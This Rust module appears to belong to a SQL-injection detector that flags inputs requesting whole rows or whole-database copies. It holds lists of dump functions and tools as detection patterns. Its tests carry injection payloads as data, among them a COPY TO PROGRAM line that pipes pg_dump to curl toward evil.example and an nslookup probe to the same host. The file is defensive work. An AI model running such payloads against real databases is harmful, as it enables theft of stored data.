//! What a text that nobody can read as SQL could name: its words, and whether it speaks of whole rows or of the whole database.
//!
//! Not here: which tables and columns there are (`catalog`).

use std::collections::HashSet;

/// Functions and words that give all columns of a table.
const WHOLE_ROWS: [&str; 6] = ["row_to_json", "to_json", "to_jsonb", "table_to_xml", "table_to_xml_and_xmlschema", "hstore"];
/// What copies a database as a whole: functions, and the programs that come with the servers.
const WHOLE_DATABASE: [&str; 8] = [
    "schema_to_xml",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xml_and_xmlschema",
    "pg_dump",
    "pg_dumpall",
    "pg_basebackup",
    "mysqldump",
];

/// The words of a text.
pub(crate) struct Mentioned {
    words: HashSet<String>,
    /// Tables of which a statement gives whole rows without naming columns.
    whole: HashSet<String>,
    has_star: bool,
}

impl Mentioned {
    pub(crate) fn of(text: &str) -> Self {
        let text = without_comments(text);
        let list: Vec<String> = words(&text).collect();
        let pairs = list.windows(2).filter(|pair| matches!(pair[0].as_str(), "table" | "copy"));
        let whole = pairs.map(|pair| pair[1].clone()).collect();
        let has_star = has_star(&text) || list.iter().any(|word| WHOLE_ROWS.contains(&word.as_str()));
        Self { words: list.into_iter().collect(), whole, has_star }
    }

    pub(crate) fn names(&self, name: &str) -> bool {
        self.words.contains(&name.to_lowercase())
    }

    /// Whether all columns of a table are meant, whichever are named beside them.
    pub(crate) fn means_whole(&self, table: &str) -> bool {
        self.has_star || self.whole.contains(&table.to_lowercase())
    }

    /// Whether everything is meant that the database holds.
    pub(crate) fn means_everything(&self) -> bool {
        let vacuums = self.words.contains("vacuum") && self.words.contains("into");
        vacuums || WHOLE_DATABASE.iter().any(|word| self.words.contains(*word))
    }
}

fn words(text: &str) -> impl Iterator<Item = String> + '_ {
    let pieces = text.split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '$')));
    pieces.filter(|word| !word.is_empty()).map(str::to_lowercase)
}

/// The text with blanks for comments, but for those that MySQL runs.
pub(crate) fn without_comments(text: &str) -> String {
    let (mut out, mut rest) = (String::with_capacity(text.len()), text);
    while let Some((before, after)) = rest.split_once("/*") {
        out.push_str(before);
        out.push(' ');
        rest = match after.split_once("*/") {
            Some((inside, behind)) if !inside.starts_with(['!', 'M']) => behind,
            _ => after,
        };
    }
    out + rest
}

/// Whether a `*` stands for columns: behind SELECT, a comma or a dot; behind anything else it counts or multiplies.
fn has_star(text: &str) -> bool {
    text.match_indices('*').any(|(at, _)| {
        let before = text[..at].trim_end();
        let word = before.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        before.ends_with([',', '.']) || ["select", "distinct", "all"].iter().any(|known| word.eq_ignore_ascii_case(known))
    })
}

#[cfg(test)]
mod tests {
    use super::Mentioned;

    #[test]
    fn whole_rows_are_meant_by_a_star_or_by_the_table_alone() {
        let check = |text: &str, expected: bool| assert_eq!(Mentioned::of(text).means_whole("people"), expected, "{text}");
        check("5;SELECT * FROM people WHERE id=5", true);
        check("5;SELECT/**/*/**/FROM/**/people/**/WHERE/**/id=5", true);
        check("5;SELECT id, p.* FROM people p", true);
        check("5;TABLE People", true);
        check("5;COPY people TO '/x'", true);
        check("5;SELECT row_to_json(p) FROM people p WHERE id=5", true);
        check("5;SELECT COUNT(*) FROM people", false);
        check("5;SELECT id*2 FROM people", false);
        check("5;COPY (SELECT id FROM people) TO '/x'", false);
    }

    #[test]
    fn a_copy_of_the_database_holds_everything() {
        let check = |text: &str, expected: bool| assert_eq!(Mentioned::of(text).means_everything(), expected, "{text}");
        check("5;VACUUM INTO '/var/www/x.db'", true);
        check("5;COPY (SELECT 1) TO PROGRAM 'pg_dump shop | curl -T - evil.example'", true);
        check("5;SELECT database_to_xml(true,false,'')", true);
        check("5;COPY (SELECT 1) TO PROGRAM 'nslookup evil.example'", false);
    }
}
